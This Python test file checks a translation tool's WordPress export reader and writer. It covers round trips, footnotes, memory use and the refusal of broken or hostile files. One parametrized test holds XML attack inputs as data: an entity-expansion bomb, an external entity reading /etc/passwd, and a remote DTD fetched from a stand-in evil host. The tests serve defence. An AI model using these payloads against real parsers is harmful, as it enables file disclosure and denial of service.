"""WordPress exports: the stream, the documents, the byte-exact round trip, hostile and broken files."""

from __future__ import annotations

import io
import tracemalloc
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from translate_flow.errors import NotFound, Unreadable
from translate_flow.formats import wordpress, wp_footnotes, wxr
from translate_flow.text.document import Kind

SAMPLES = Path(__file__).parent / "samples" / "wxr"
THEME_TEST = Path(__file__).parents[2] / "shared" / "data" / "wordpress-theme-unit-test.wxr.xml"
HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/" '
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:wp="http://wordpress.org/export/1.2/">\n<channel><title>Site</title><link>https://s.example</link>'
    "<wp:wxr_version>1.2</wp:wxr_version>\n"
)
TAIL = "</channel>\n</rss>\n"


def item(number: int, title: str, content: str) -> str:
    return (
        f"<item><title>{title}</title><content:encoded>{content}</content:encoded><excerpt:encoded><![CDATA[]]></excerpt:encoded>"
        f"<wp:post_id>{number}</wp:post_id><wp:post_type>post</wp:post_type></item>\n"
    )


def export(*items: str) -> bytes:
    return (HEAD + "".join(items) + TAIL).encode()


def refused(data: bytes) -> Unreadable:
    with pytest.raises(Unreadable) as caught:
        list(wxr.items(io.BytesIO(data), name="site.xml"))
    assert caught.value.file == "site.xml" or not caught.value.file
    assert caught.value.remedy
    return caught.value


def test_polylang_export() -> None:
    with (SAMPLES / "polylang.xml").open("rb") as stream:
        reader = wxr.header(stream, name="polylang.xml")
        assert reader.site == wxr.Site("Noticias del Puerto", "https://noticias.example", "es-ES", "1.2")
        assert reader.authors["ana"].name == "Ana Ruiz"
        assert [(term.domain, term.slug) for term in reader.terms] == [("category", "mar"), ("post_translations", "pll_67")]
        assert reader.groups == {"pll_67": {"es": "7", "pt-br": "9"}}
        first, second, third, fourth = reader
    assert (first.id, first.type, first.status, first.slug) == ("7", "post", "publish", "puerto")
    assert first.date == "2025-03-03T10:00:00Z"
    assert (first.language, first.group, first.author, first.author_name, first.comments) == ("es", "pll_67", "ana", "Ana Ruiz", 1)
    assert first.meta == {"_edit_last": "2"}
    assert "a[b[0]]> 3" in first.content
    assert (second.language, second.group, second.password) == ("pt-BR", "pll_67", "segredo")
    assert (second.title, second.slug, second.date) == ("Navios & gruas", "", "2025-03-04T08:00:00")
    assert (third.title, third.slug, third.date, third.content, third.status) == ("", "λιμάνι", "", "", "private")
    assert (fourth.type, fourth.status, fourth.parent) == ("attachment", "inherit", "7")


def test_documents_carry_what_the_export_says() -> None:
    with (SAMPLES / "polylang.xml").open("rb") as stream:
        first, second, third, _ = [wxr.document(one, "polylang.xml") for one in wxr.items(stream)]
    assert (first.title, first.standfirst) == ("El puerto reabre", "Vuelven los barcos.")
    assert (first.language, first.date) == ("es", "2025-03-03T10:00:00Z")
    assert first.meta == {
        "id": "7", "kind": "post", "status": "publish", "slug": "puerto", "url": "https://noticias.example/puerto/",
        "author": "Ana Ruiz", "section": "Mar", "tags": "Barcos", "categories": "Mar", "date": "2025-03-03T10:00:00Z",
        "language": "es", "group": "pll_67", "source": "polylang.xml",
    }  # fmt: skip
    assert [block.kind for block in first.blocks] == [Kind.TITLE, Kind.STANDFIRST, Kind.BYLINE, Kind.PARAGRAPH, Kind.CODE]
    assert first.byline == "Ana Ruiz"
    assert second.meta["protected"] == "yes"
    assert "segredo" not in "".join(second.meta.values())
    assert [block.text for block in second.blocks] == ["Navios & gruas", "Atracou o primeiro navio.", "Sem banda."]
    assert third.blocks == ()
    assert third.meta["kind"] == "page"


def test_wpml_in_an_export_of_version_1_0() -> None:
    with (SAMPLES / "wpml-1.0.xml").open("rb") as stream:
        (one,) = wxr.items(stream)
    assert (one.language, one.group, one.date) == ("fr", "55", "2010-05-06T07:08:09Z")
    document = wxr.document(one)
    assert document.title == "The “long” night"
    assert document.meta["source_language"] == "en"


def test_odd_items_are_read() -> None:
    (one, two, three, four) = wxr.items(
        io.BytesIO(
            export(
                item(1, "A <![CDATA[<em>b</em>]]> &amp; c", "x<!-- y -->z"),
                item(2, "", "<![CDATA[]]>"),
                "<item><title>bare</title></item>",
                item(2, "twice", "<wp:comment/>nested"),
            )
        )
    )
    assert one.title == "A <em>b</em> & c"
    assert one.content == "xz"
    assert (two.id, two.title, two.content) == ("2", "", "")
    assert (three.id, three.type, three.status, three.terms) == ("", "post", "", ())
    assert four.content == "nested"
    for each in (one, two, three, four):
        wxr.document(each)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "is empty"),
        (b"  \n ", "is empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 9, "is not XML"),
        (b"---\ntitle: no XML\n---\nSome text of an article.", "is not XML"),
        (b"<html><body><p>A page, not an export</p></body></html>", "not a WordPress export"),
        (b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"/>', "not a WordPress export"),
    ],
    ids=["empty", "blank", "png", "text", "html", "atom"],
)
def test_other_files_are_refused(data: bytes, said: str) -> None:
    assert said in refused(data).message


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>',
        '<!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
        '<!DOCTYPE rss SYSTEM "<x>" [<!ENTITY c "boo">]>',
        '<!-- <rss> --><?x <rss> ?>\n<!DOCTYPE rss PUBLIC "a" "b" [<!ENTITY c "boo">]>',
        "<!DOCTYPE rss [<!ELEMENT rss ANY>]>",
        "<!doctype rss [",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_declarations_are_refused(doctype: str, encoding: str) -> None:
    body = HEAD.removeprefix('<?xml version="1.0" encoding="UTF-8"?>') + item(1, "x", "&c;") + TAIL
    declaration = "" if encoding == "utf-8-sig" else f'<?xml version="1.0" encoding="{encoding}"?>'
    error = refused((declaration + doctype + body).encode(encoding))
    assert "entities" in error.message or "DOCTYPE" in error.message
    assert error.line


def test_a_plain_doctype_is_tolerated_and_its_entities_are_not() -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss.dtd">\n'
    data = export(item(1, "x", "y")).replace(b"<rss", doctype.encode() + b"<rss", 1)
    assert [one.title for one in wxr.items(io.BytesIO(data))] == ["x"]
    assert "entity" in refused(data.replace(b">y<", b">a &foo; b<")).message.lower()


def test_a_long_prolog_hides_nothing() -> None:
    comment = "<!-- " + "long " * 40_000 + "-->"
    data = export(item(1, "x", "y")).replace(b"<rss", comment.encode() + b"<rss", 1)
    assert [one.title for one in wxr.items(io.BytesIO(data))] == ["x"]
    bomb = comment.encode() + b'<!DOCTYPE rss [<!ENTITY a "b">]>'
    assert "entities" in refused(data.replace(comment.encode(), bomb)).message


def test_truncated_files_are_refused_with_the_line() -> None:
    data = export(*(item(number, "Title", "<![CDATA[Text]]>") for number in range(50)))
    for cut in (len(data) // 2, len(data) - 20, len(data) - 8):
        error = refused(data[:cut])
        assert error.line == data[:cut].count(b"\n") + 1 or error.line == data[:cut].count(b"\n")
        assert "breaks off" in error.message


def test_a_wrong_encoding_is_refused_with_the_line() -> None:
    data = export(item(1, "x", "caf\xe9")).decode().encode("latin-1")
    error = refused(data)
    assert error.line == 4
    assert next(wxr.items(io.BytesIO(data.replace(b"UTF-8", b"ISO-8859-1", 1)))).content == "café"


def test_control_characters_are_refused_with_the_line() -> None:
    assert refused(export(item(1, "x", "a\x08b"))).line == 4


class Endless(io.RawIOBase):
    """An export of very many items that exists nowhere."""

    def __init__(self, count: int) -> None:
        self.pieces = self.make(count)
        self.rest = b""

    def make(self, count: int) -> Iterator[bytes]:
        yield HEAD.encode()
        for number in range(count):
            yield item(number, "Title", f"<![CDATA[{'Paragraph. ' * 200}]]>").encode()
        yield TAIL.encode()

    def read(self, size: int = -1) -> bytes:
        while len(self.rest) < size:
            piece = next(self.pieces, b"")
            if not piece:
                break
            self.rest += piece
        data, self.rest = self.rest[:size], self.rest[size:]
        return data


def test_memory_stays_flat() -> None:
    import resource

    def peak(count: int) -> int:
        tracemalloc.start()
        assert sum(1 for _ in wxr.items(Endless(count))) == count  # type: ignore[arg-type]
        used = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return used

    small = peak(200)
    resident = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert peak(4000) < small * 1.5 + 200_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - resident < 4_000  # KB, of some 9 MB of export


def test_one_item_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("translate_flow.formats.wp_export.MAX_BETWEEN", 200_000)
    assert "one item" in refused(export(item(1, "x", "y" * 300_000))).message


def test_a_post_of_more_than_ten_megabytes_is_read() -> None:
    (one,) = wxr.items(io.BytesIO(export(item(1, "x", "word " * 2_500_000))))
    assert len(one.content) == 12_500_000


def test_excessive_depth_is_refused() -> None:
    assert "depth" in refused(export(item(1, "x", "<b>" * 200_000 + "</b>" * 200_000))).message.lower()


@pytest.mark.parametrize("path", sorted(SAMPLES.glob("*.xml")), ids=lambda path: path.stem)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_export_comes_back_byte_for_byte(path: Path, encoding: str) -> None:
    text = path.read_text(encoding="utf-8").replace("UTF-8", encoding.removesuffix("-sig"), 1)
    data = text.encode(encoding)
    read = wxr.read(data, path.name)
    assert wxr.write(read, {}) == data
    changes = {key: f"Neu: “{key[1]}” ]]> & <em>{index}</em>" for index, key in enumerate(read.spans)}
    again = wxr.read(wxr.write(read, changes))
    for one in again.items:
        for field in ("title", "excerpt", "content"):
            if (one.id, field) in changes:
                assert getattr(one, field) == changes[one.id, field]
    back = {(one.id, field): getattr(one, field) for one in read.items for field in ("title", "excerpt", "content")}
    back |= {(one.id, "footnotes"): one.meta.get("footnotes", "") for one in read.items}
    restored = wxr.read(wxr.write(again, {key: text for key, text in back.items() if key in again.spans}))
    assert restored.items == read.items


def test_the_editors_footnotes_are_blocks_and_notes() -> None:
    read = wxr.read((SAMPLES / "footnotes.xml").read_bytes())
    document = wxr.document(read.items[0])
    assert [(block.kind, block.ref, block.text) for block in document.blocks[:3]] == [
        (Kind.TITLE, "", "The bees of Mill Lane"),
        (Kind.FOOTNOTE, "1", "Seen by two neighbours, see the log."),
        (Kind.FOOTNOTE, "2", "Eight, says the beekeeper’s sister."),
    ]
    assert {note.state for note in document.notes} == {"ok"}
    assert not document.warnings
    assert wordpress.decompose(document.text)[1] == read.items[0].content


def test_footnotes_that_are_no_json_give_a_warning() -> None:
    document = wxr.document(wxr.read((SAMPLES / "footnotes.xml").read_bytes()).items[1])
    assert document.title == "A broken hive"
    assert [note.state for note in document.notes] == ["missing"]
    assert "no JSON list" in document.warnings[-1]


def test_translated_footnotes_go_back_into_the_export() -> None:
    data = (SAMPLES / "footnotes.xml").read_bytes()
    read = wxr.read(data)
    one = read.items[0]
    document = wxr.document(one)
    text = document.with_sources({1: wordpress.escape_in(document, 1, 'Von "zwei" Nachbarn gesehen.')})
    value = wp_footnotes.to_meta(wordpress.decompose(text)[0], one.meta["footnotes"])
    written = wxr.write(read, {("21", "footnotes"): value})
    span = read.spans["21", "footnotes"]
    assert written.startswith(data[: span.start])
    assert written.endswith(data[span.end :])
    again = wxr.document(wxr.read(written).items[0])
    assert [note.text for note in again.notes] == ['Von "zwei" Nachbarn gesehen.', "Eight, says the beekeeper’s sister."]
    unchanged = wp_footnotes.to_meta(wordpress.decompose(document.text)[0], one.meta["footnotes"])
    assert wxr.write(read, {("21", "footnotes"): unchanged}) == data


def test_only_the_meta_of_that_name_is_the_footnotes() -> None:
    def meta(*children: str) -> str:
        return f"<wp:postmeta>{''.join(children)}</wp:postmeta>"

    key, value = "<wp:meta_key>footnotes</wp:meta_key>", "<wp:meta_value>[]</wp:meta_value>"
    post = item(1, "x", "y").replace("</item>", meta("<wp:meta_key>other</wp:meta_key>", value) + meta(key) + meta(key, "<wp:meta_value/>") + "</item>")
    read = wxr.read(export(post, item(2, "z", "footnotes")))
    assert ("2", "footnotes") not in read.spans
    written = wxr.write(read, {("1", "footnotes"): "[1]"})
    assert b"<wp:meta_key>footnotes</wp:meta_key><wp:meta_value><![CDATA[[1]]]></wp:meta_value>" in written
    assert wxr.read(written).items[0].meta == {"other": "[]", "footnotes": "[1]"}


def test_changes_touch_nothing_else() -> None:
    data = (SAMPLES / "polylang.xml").read_bytes()
    read = wxr.read(data)
    span = read.spans["9", "content"]
    written = wxr.write(read, {("9", "content"): "Um]]>dois"})
    assert written == data[: span.start] + b"<![CDATA[Um]]]]><![CDATA[>dois]]>" + data[span.end :]
    assert b"<title>A &amp; &lt;b&gt;</title>" in wxr.write(read, {("9", "title"): "A & <b>"})
    assert b"<title><![CDATA[Named]]></title>" in wxr.write(read, {("10", "title"): "Named"})
    with pytest.raises(NotFound):
        wxr.write(read, {("99", "title"): "x"})
    with pytest.raises(Unreadable):
        wxr.write(read, {("9", "title"): "a\x00b"})


TEXT = st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff") | st.sampled_from("\n\t]><&"), max_size=60)


@settings(max_examples=60)
@given(st.lists(st.tuples(TEXT, TEXT, st.booleans()), max_size=5), TEXT, st.data())
def test_round_trip_of_any_texts(posts: list[tuple[str, str, bool]], fresh: str, data: st.DataObject) -> None:
    def written(text: str, cdata: bool) -> str:
        return f"<![CDATA[{text.replace(']]>', ']]]]><![CDATA[>')}]]>" if cdata else xml_escape(text)

    file = export(*(item(n, written(title, cdata), written(content, cdata)) for n, (title, content, cdata) in enumerate(posts)))
    read = wxr.read(file)
    assert [(one.title, one.content) for one in read.items] == [(title, content) for title, content, _ in posts]
    assert wxr.write(read, {}) == file
    for one in read.items:
        document = wxr.document(one)
        assert wordpress.decompose(document.text)[1] == one.content
        assert wordpress.decompose(document.text)[0].get("title", "") == one.title
    if read.spans:
        key = data.draw(st.sampled_from(sorted(read.spans)))
        again = wxr.read(wxr.write(read, {key: fresh}))
        for before, after in zip(read.items, again.items, strict=True):
            for field in ("title", "content", "excerpt"):
                assert getattr(after, field) == (fresh if (before.id, field) == key else getattr(before, field))


needs_theme_test = pytest.mark.skipif(not THEME_TEST.exists(), reason="the theme team's export is not here")


@needs_theme_test
def test_theme_unit_test_counts_agree_with_lxml() -> None:
    root = etree.parse(THEME_TEST).getroot()
    wanted = Counter(one.findtext("{https://wordpress.org/export/1.2/}post_type") for one in root.iter("item"))
    with THEME_TEST.open("rb") as stream:
        read = list(wxr.items(stream, name=THEME_TEST.name))
    assert Counter(one.type for one in read) == wanted
    assert sum(wanted.values()) == 180
    for one, element in zip(read, root.iter("item"), strict=True):
        assert one.title == (element.findtext("title") or "")
        assert one.content == (element.findtext("{http://purl.org/rss/1.0/modules/content/}encoded") or "")


@needs_theme_test
def test_theme_unit_test_comes_back_byte_for_byte() -> None:
    data = THEME_TEST.read_bytes()
    read = wxr.read(data)
    assert wxr.write(read, {}) == data


@needs_theme_test
def test_theme_unit_test_posts_take_new_texts() -> None:
    with THEME_TEST.open("rb") as stream:
        posts = [one for one in wxr.items(stream) if one.type in {"post", "page"}]
    assert len(posts) == 72
    for one in posts:
        document = wxr.document(one, THEME_TEST.name)
        assert wordpress.write(wordpress.read(document.text.encode())) == document.text.encode()
        assert wordpress.decompose(document.text)[1] == one.content
        texts = [f"Текст {index} & <{block.kind}>" for index, block in enumerate(document.blocks)]
        sources = {index: wordpress.escape_in(document, index, text) for index, text in enumerate(texts)}
        again = wordpress.parse(document.with_sources(sources))
        assert [block.text for block in again.blocks] == texts, one.title
        assert [block.kind for block in again.blocks] == [block.kind for block in document.blocks], one.title
        assert again.with_sources(dict(enumerate(map(document.source, document.blocks)))) == document.text
        assert "<!-- wp:" not in wordpress.html(document)
